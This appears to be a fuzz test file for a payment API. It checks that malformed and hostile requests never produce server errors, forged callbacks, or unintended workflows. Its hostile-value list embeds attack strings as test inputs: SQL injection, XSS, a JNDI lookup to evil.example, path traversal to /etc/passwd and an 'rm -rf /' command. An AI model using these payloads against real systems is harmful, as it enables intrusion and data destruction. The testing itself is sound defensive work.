import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Client } from '@temporalio/client';
import fc from 'fast-check';
import { connect } from 'node:net';
import { request } from 'undici';
import { eventually } from '../src/local/eventually';
import { PAYMENT_TYPES } from '../src/domain/requests';
import { paymentRequest, uniqueReference } from './support/request-builders';
import { MERCHANT_KEY, OPERATOR_KEY, startStack, connectTestClient } from './support/test-stack';
import type { Stack } from './support/test-stack';
import { assertDocumented } from './support/openapi-checks';

/**
 * Sends a request's headers and the first kilobyte of a body of `declared` bytes, never the rest: the status line the
 * server answers with before the body is complete, or undefined when it is still waiting after `waitMs`.
 */
async function answerBeforeBody(
  baseUrl: string,
  path: string,
  declared: number,
  key: string | undefined,
  waitMs: number,
): Promise<string | undefined> {
  const { hostname, port } = new URL(baseUrl);
  const socket = connect(Number(port), hostname);
  try {
    const head = [
      `POST ${path} HTTP/1.1`,
      `host: ${hostname}:${port}`,
      'content-type: application/json',
      `content-length: ${declared}`,
      ...(key ? [`authorization: Bearer ${key}`] : []),
    ];
    socket.write(`${head.join('\r\n')}\r\n\r\n{"items":[${' '.repeat(1024)}`);
    return await new Promise<string | undefined>((resolve, reject) => {
      const timer = setTimeout(() => resolve(undefined), waitMs);
      socket.once('data', (chunk: Buffer) => {
        clearTimeout(timer);
        resolve(chunk.toString('latin1').split('\r\n')[0]);
      });
      socket.once('error', reject);
    });
  } finally {
    socket.destroy();
  }
}

/** The body as JSON, or its text when it is not JSON. */
function parseJson(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return text;
  }
}

// Thousands of random and malformed requests against the merchant API, the callbacks and the codec:
// never a 5xx, never a crash, and no workflow for a request that was not answered 201.

const HOSTILE_VALUES = [
  '1e309',
  '-1e309',
  '-0',
  '0',
  '0.001',
  '"12"',
  '12.345',
  '1e-7',
  '9007199254740993',
  '-5',
  'null',
  'true',
  '[]',
  '{}',
  '[[[[[[[[[[]]]]]]]]]]',
  '"\\u0000"',
  '"\\ud800"',
  '"\\u202e"',
  '"a\\u200bb"',
  '"💳💳"',
  '"Ｒｅｆ"',
  '"e\\u0301\\u0301\\u0301"',
  JSON.stringify('x'.repeat(5000)),
  ...[
    "' OR '1'='1",
    '"; DROP TABLE payments; --',
    "Robert'); DROP TABLE Students;--",
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '../../../../etc/passwd',
    '{{7*7}}',
    '`rm -rf /`',
    'x" OR WorkflowId != "',
    '%00',
    '\r\nSet-Cookie: a=b',
    'javascript:alert(1)',
    'https://merchant.example/<img src=x onerror=alert(1)>',
    '__proto__',
  ].map((s) => JSON.stringify(s)),
];
const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data; boundary=x',
  'APPLICATION/JSON',
  'application/json;;;charset=',
  undefined,
];
const KEYS = [
  MERCHANT_KEY,
  MERCHANT_KEY,
  MERCHANT_KEY,
  OPERATOR_KEY,
  'mk_wrong_0123456789abcdef',
  '',
  'x'.repeat(5000),
];

const fields = [
  'type',
  'reference',
  'amount',
  'channel',
  'phone_number',
  'name',
  'voucher_code',
  'first_name',
  'last_name',
];
const moreFields = ['email', 'card_number', 'card_cvv', 'expiry_month', 'expiry_year', 'return_url', 'customer_name'];
const allFields = [...fields, ...moreFields, 'bank_code', 'account_number', 'description', '__proto__', 'constructor'];

/** A valid request of some type with one or more fields replaced by hostile raw JSON. */
const mutatedRequest = fc
  .record({
    type: fc.constantFrom(...PAYMENT_TYPES),
    mutations: fc.array(fc.tuple(fc.constantFrom(...allFields), fc.constantFrom(...HOSTILE_VALUES)), {
      minLength: 1,
      maxLength: 3,
    }),
  })
  .map(({ type, mutations }) => {
    const body: Record<string, unknown> = { ...paymentRequest(type, '00', uniqueReference('fuzz')) };
    mutations.forEach(([field], i) => (body[field] = `__HOSTILE_${i}__`));
    let text = JSON.stringify(body);
    mutations.forEach(([, raw], i) => (text = text.replace(`"__HOSTILE_${i}__"`, raw)));
    return text;
  });

const batchFields = ['amount', 'bank_code', 'account_number', 'customer_name', 'description', 'type', 'reference'];

/** A payout batch of 1–3 bank credits, its first item (or the batch itself) with 0–2 fields made hostile. */
const mutatedBatch = fc
  .record({
    size: fc.integer({ min: 1, max: 3 }),
    mutations: fc.array(
      fc.tuple(fc.constantFrom(...batchFields, 'items', 'batch_reference'), fc.constantFrom(...HOSTILE_VALUES)),
      { maxLength: 2 },
    ),
  })
  .map(({ size, mutations }) => {
    const items: Record<string, unknown>[] = Array.from({ length: size }, (_, i) => {
      const { type: _type, ...item } = paymentRequest('bank_credit', '00', `item-${i}`);
      return item;
    });
    const batch: Record<string, unknown> = { reference: uniqueReference('fuzzb'), items };
    mutations.forEach(([field], i) => {
      const marker = `__HOSTILE_${i}__`;
      if (field === 'items') batch.items = marker;
      else if (field === 'batch_reference') batch.reference = marker;
      else if (Array.isArray(batch.items)) (batch.items[0] as Record<string, unknown>)[field] = marker;
    });
    let text = JSON.stringify(batch);
    mutations.forEach(([, raw], i) => (text = text.replace(`"__HOSTILE_${i}__"`, raw)));
    return text;
  });

const nested = fc
  .record({ depth: fc.integer({ min: 100, max: 30_000 }), kind: fc.constantFrom('[', '{"a":') })
  .map(({ depth, kind }) =>
    kind === '[' ? '['.repeat(depth) + ']'.repeat(depth) : kind.repeat(depth) + '1' + '}'.repeat(depth),
  );

const body = fc.oneof(
  { weight: 5, arbitrary: mutatedRequest },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: nested },
  { weight: 1, arbitrary: fc.constantFrom('', '{', '{"type":', 'null', '"', '\u0000', '{"a":1}'.repeat(12_000)) },
);

interface Outcome {
  status: number;
  text: string;
}

describe('hostile input', () => {
  let stack: Stack;
  let client: Client;
  const counts = new Map<string, number>();
  const created = new Set<string>();
  /** Workflows the accepted batches started: the batch alone (its items wait in PostgreSQL; no worker runs them). */
  let batchWorkflows = 0;
  let total = 0;

  const send = async (
    method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'OPTIONS',
    path: string,
    options: { body?: string; contentType?: string; key?: string; label?: string } = {},
  ): Promise<Outcome> => {
    const response = await request(`${stack.baseUrl}${path}`, {
      method,
      headers: {
        ...(options.key ? { authorization: `Bearer ${options.key}` } : {}),
        ...(options.contentType !== undefined ? { 'content-type': options.contentType } : {}),
      },
      body: options.body,
    });
    const text = await response.body.text();
    assertDocumented(method, path, { status: response.statusCode, headers: response.headers, body: parseJson(text) });
    total++;
    const bucket = `${method} ${options.label ?? path} → ${response.statusCode}`;
    counts.set(bucket, (counts.get(bucket) ?? 0) + 1);
    return { status: response.statusCode, text };
  };

  /** Every answer is a 2xx or a 4xx, and every 4xx carries the error envelope. */
  const assertClean = ({ status, text }: Outcome) => {
    assert.ok(status < 500, `a ${status}: ${text.slice(0, 300)}`);
    if (status >= 400) {
      const parsed = JSON.parse(text) as { error?: { code?: unknown; message?: unknown; fields?: unknown } };
      assert.equal(typeof parsed.error?.code, 'string', text);
      assert.equal(typeof parsed.error?.message, 'string', text);
      assert.ok(Array.isArray(parsed.error?.fields), text);
    }
  };

  before(async () => {
    // No worker: a valid payment waits all of INITIATION_WAIT, which must outlast the start itself on a busy machine
    // (at 100 ms the start could land after the answer gave up on it: a 503 for a payment that then started).
    // Its own merchant: the endpoints the generated requests register must not notify the other files' payments.
    stack = await startStack({
      withoutWorker: true,
      env: { INITIATION_WAIT: '2s', MERCHANT_API_KEYS: `hostile:${MERCHANT_KEY}` },
    });
    client = await connectTestClient();
  });
  after(async () => {
    const lines = [...counts.entries()].sort().map(([bucket, n]) => `#   ${bucket}: ${n}`);
    process.stdout.write(
      `# hostile input: ${total} requests, ${created.size} payments and ${batchWorkflows} batches created\n${lines.join('\n')}\n`,
    );
    await stack?.close();
    await client?.connection.close();
  });

  it('POST /v1/payments: random, malformed and hostile bodies are answered 4xx (or 201 when valid)', async () => {
    await fc.assert(
      fc.asyncProperty(
        body,
        fc.constantFrom(...CONTENT_TYPES),
        fc.constantFrom(...KEYS),
        async (text, contentType, key) => {
          const outcome = await send('POST', '/v1/payments', { body: text, contentType, key });

          assertClean(outcome);
          if (outcome.status === 201) created.add((JSON.parse(outcome.text) as { id: string }).id);
          else assert.ok(outcome.status >= 400, `${outcome.status} for an invalid request`);
        },
      ),
      { numRuns: 2500 },
    );
  });

  it('POST /v1/payout-batches: hostile batches are answered 4xx (or 201 when valid)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof({ weight: 3, arbitrary: mutatedBatch }, { weight: 1, arbitrary: body }),
        fc.constantFrom(...CONTENT_TYPES),
        fc.constantFrom(...KEYS),
        async (text, contentType, key) => {
          const outcome = await send('POST', '/v1/payout-batches', { body: text, contentType, key });
          assertClean(outcome);
          if (outcome.status === 201) batchWorkflows += 1;
          else assert.ok(outcome.status >= 400, `${outcome.status} for an invalid batch`);
        },
      ),
      { numRuns: 600 },
    );
  });

  it('reads, lists, resolves, codec calls and unknown routes with random ids and queries: never a 5xx', async () => {
    const segment = fc.string({ unit: 'binary', maxLength: 120 }).map(encodeURIComponent);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          segment.map((id) => ['GET', `/v1/payments/${id}`, '/v1/payments/{id}'] as const),
          fc
            .dictionary(
              fc.constantFrom('status', 'type', 'reference', 'limit', 'x'),
              fc.constantFrom(...HOSTILE_VALUES),
            )
            .map((q) => ['GET', `/v1/payments?${new URLSearchParams(q).toString()}`, '/v1/payments?{query}'] as const),
          segment.map((id) => ['POST', `/v1/payments/${id}/resolve`, '/v1/payments/{id}/resolve'] as const),
          segment.map((id) => ['GET', `/v1/payout-batches/${id}`, '/v1/payout-batches/{id}'] as const),
          segment.map((id) => ['POST', `/v1/payout-batches/${id}/cancel`, '/v1/payout-batches/{id}/cancel'] as const),
          fc.constantFrom('/codec/decode', '/codec/encode').map((p) => ['POST', p, p] as const),
          segment.map((p) => ['DELETE', `/${p}`, '/{random path}'] as const),
        ),
        body,
        fc.constantFrom(...KEYS),
        async ([method, path, label], text, key) => {
          const options = { body: method === 'POST' ? text : undefined, contentType: 'application/json', key, label };
          assertClean(await send(method, path, options));
        },
      ),
      { numRuns: 1200 },
    );
  });

  it('callbacks with random ids, tokens, encodings and bodies: never a 5xx, never a signal to a payment', async () => {
    const real = await stack.api('POST', '/v1/payments', paymentRequest('mobile_money_debit', '00'));
    assert.equal(real.status, 201);
    created.add(real.body.id);
    const id = fc.oneof(
      fc.constant(encodeURIComponent(real.body.id)),
      fc.string({ maxLength: 80 }).map(encodeURIComponent),
    );
    const token = fc.string({ unit: 'binary', maxLength: 100 }).map(encodeURIComponent);
    await fc.assert(
      fc.asyncProperty(
        id,
        token,
        body,
        fc.constantFrom(...CONTENT_TYPES),
        fc.boolean(),
        async (i, t, text, type, get) => {
          const path = `/v1/callbacks/${i}/${t || 'x'}`;
          const label = '/v1/callbacks/{id}/{token}';
          const query = new URLSearchParams({ status: text.slice(0, 200) }).toString();
          const outcome = get
            ? await send('GET', `${path}?${query}`, { label })
            : await send('POST', path, { body: text, contentType: type, label });
          assertClean(outcome);
          assert.ok(outcome.status >= 400, 'a forged callback is never accepted');
        },
      ),
      { numRuns: 1500 },
    );
  });

  it('refuses an unauthenticated large body before reading it: the answer comes while the body is still being sent', async () => {
    const MB = 1024 * 1024;
    const refusals: [string, number, string | undefined, string][] = [
      ['/v1/payout-batches', 8 * MB, undefined, '401'],
      ['/v1/payout-batches', 8 * MB, 'mk_not_a_key', '401'],
      ['/v1/payments', MB, undefined, '401'],
      ['/codec/decode', 4 * MB, undefined, '401'],
      ['/codec/encode', 4 * MB, MERCHANT_KEY, '403'],
      ['/codec/ui/not-a-token/decode', 4 * MB, undefined, '401'],
      ['/codec/ui/not-a-token/encode', 4 * MB, undefined, '403'],
      ['/v1/payout-batches/batch-acme-x/pause', MB, undefined, '401'],
    ];
    for (const [path, size, key, status] of refusals) {
      const started = Date.now();
      const line = await answerBeforeBody(stack.baseUrl, path, size, key, 5_000);
      assert.match(line ?? 'no answer', new RegExp(`^HTTP/1\\.1 ${status} `), `${path}: ${line ?? 'no answer'}`);
      assert.ok(Date.now() - started < 2_000, `${path} answered in ${Date.now() - started} ms`);
    }
    // With a valid key the server waits for the body: what the answers above did not need.
    assert.equal(await answerBeforeBody(stack.baseUrl, '/v1/payout-batches', 8 * MB, MERCHANT_KEY, 700), undefined);
    assert.equal(await answerBeforeBody(stack.baseUrl, '/codec/decode', 4 * MB, OPERATOR_KEY, 700), undefined);
  });

  it('the server still answers, and exactly the 201 answers started workflows', async () => {
    assert.equal((await send('GET', '/healthz')).status, 200);

    const query = `TaskQueue = "${stack.taskQueue}"`;
    await eventually(
      async () => assert.equal((await client.workflow.count(query)).count, created.size + batchWorkflows),
      { timeoutMs: 15_000, what: 'one workflow per 201 answer in visibility' },
    );
    assert.ok(total >= 5000, `${total} requests`);
  });
});
